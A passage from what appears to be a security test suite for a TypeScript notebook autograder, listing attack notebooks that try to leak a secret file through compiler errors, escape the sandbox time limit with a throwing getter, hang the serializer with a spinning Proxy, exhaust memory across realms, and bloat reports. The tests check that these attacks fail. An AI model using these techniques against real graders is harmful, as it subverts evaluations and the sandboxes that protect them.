        fs.writeFileSync(path.join(dir, 'atk-42-compiler-reads-json.ipynb'), JSON.stringify(withCell('scale', graded('scale', `import secret from '${SECRET_DIR}/secret.json';
const probe: number = secret;
${SCALE}`))));
      },
    },
    {
      file: 'atk-43-compiler-reads-ts.ipynb', score: 2,
      what: "the trusted compiler type-checks any .ts file named by an absolute import: a string constant's literal type (its value) appears in the compile errors",
      absent: [/tsdl-secret-literal-9931/],
      write: (dir) => {
        fs.mkdirSync(SECRET_DIR, { recursive: true });
        fs.writeFileSync(path.join(SECRET_DIR, 'secret.ts'), "export const SECRET = 'tsdl-secret-literal-9931';\n");
        fs.writeFileSync(path.join(dir, 'atk-43-compiler-reads-ts.ipynb'), JSON.stringify(withCell('scale', graded('scale', `import { SECRET } from '${SECRET_DIR}/secret';
const probe: 'nothing' = SECRET;
${SCALE}`))));
      },
    },
    nb('atk-44-throw-out-of-use-references.ipynb',
      "the exports setter throws an object whose stack getter and toString run in the sandbox process's catch (outside the realm's time limit) and whose text becomes the feedback unmasked ('grader error in the sandbox: ...')",
      () => withCell('scale_all', graded('scale_all', `${SCALE_ALL}
const mine = exports.scale;
delete exports.scale;
const bomb = { get stack(): string { return 'LEAK44 ' + String(0.123456789) + ' ' + 'z'.repeat(5000); }, toString: (): string => 'bomb' };
Object.setPrototypeOf(exports, Object.defineProperty({}, 'scale', { get: () => mine, set() { throw bomb; }, configurable: true }));`)),
      4, { feedback: { scale: /2 of 2 hidden tests passed/, init_weights: /2 of 2 hidden tests passed/ }, absent: [/LEAK44 0\.123456789/, /grader error in the sandbox/] }),
    nb('atk-45-proxy-spins-in-serializer.ipynb', "a returned Proxy whose ownKeys trap spins: the realm's serializer runs it (must stay under the case's time limit)",
      () => withSolution('scale', 'y = new Proxy({}, { ownKeys() { for (;;) { /* spin */ } } }) as unknown as NDArray;'), 2,
      { feedback: { scale: /time limit reached/, init_weights: /2 of 2 hidden tests passed/ } }),
    nb('atk-46-realms-kept-alive.ipynb',
      "each function's realm kept alive by a pending Atomics.waitAsync (no timeout) after its test: the graded cell's honest 200 MB of top-level data adds up across realms in the one sandbox process until a later, correct function hits the memory limit",
      () => withCell('scale', graded('scale', `const table = new Float64Array(25_000_000).fill(1);
void (Atomics as any).waitAsync(new Int32Array(new SharedArrayBuffer(4)), 0, 0).value.then(() => table.length);
${SCALE}`)), 4),
    nb('atk-47-report-blowup.ipynb',
      "a 1 MB property name quoted by five compile errors, in one cell defining all three graded functions: every function's feedback repeats the five errors (15x the notebook in JSON, HTML and the gradebook)",
      () => {
        const n = loadToySource();
        const gradedCells = n.cells.filter((c) => String(c.source).startsWith('// GRADED FUNCTION'));
        const name = `p${'q'.repeat(1_000_000)}`;
        n.cells = [...n.cells.filter((c) => !gradedCells.includes(c)), codeCell(graded('scale', `interface Big { ${name}: 1 }
const v1: Big = {}; const v2: Big = {}; const v3: Big = {}; const v4: Big = {}; const v5: Big = {};
${SCALE}\n${INIT}\n${SCALE_ALL}`), 'blowup')];
        return n;
      }, 0, { maxReportBytes: 200_000 }),
  ];
  return cases;
}
